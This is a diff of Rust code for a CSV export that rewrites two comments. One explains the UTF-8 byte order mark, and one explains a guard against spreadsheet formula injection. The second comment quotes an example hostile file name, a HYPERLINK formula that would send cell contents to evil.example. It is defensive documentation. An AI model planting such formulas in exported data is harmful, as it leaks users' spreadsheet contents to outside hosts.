@@ -78,7 +78,8 @@ fn json_lines(lines: &[Line]) -> String {
 }
 
 fn csv(lines: &[Line]) -> String {
-    // With a byte order mark, by which spreadsheets recognize UTF-8.
+    // The byte order mark tells spreadsheets that the file is UTF-8. Without it some read
+    // `회의.md` in the system's own encoding.
     let mut text = "\u{feff}".to_owned();
     row(&mut text, COLUMNS.map(Cow::Borrowed));
     for line in lines {
@@ -139,8 +140,10 @@ fn row<const N: usize>(text: &mut String, cells: [Cow<'_, str>; N]) {
         }
         let shown: Vec<_> = cell.split('\n').map(visible).collect();
         let shown = shown.join("\n");
-        // A spreadsheet evaluates cells with these first characters, and names are chosen by
-        // others.
+        // A spreadsheet evaluates a cell that begins with one of these characters as a formula,
+        // also if the cell is quoted. Names of files and clients are chosen by others: a file
+        // called `=HYPERLINK("http://evil.example?"&A1)` must be shown and not run. The
+        // apostrophe makes the cell a text.
         let guard = if shown.starts_with(['=', '+', '-', '@', '\t']) {
             "'"
         } else {
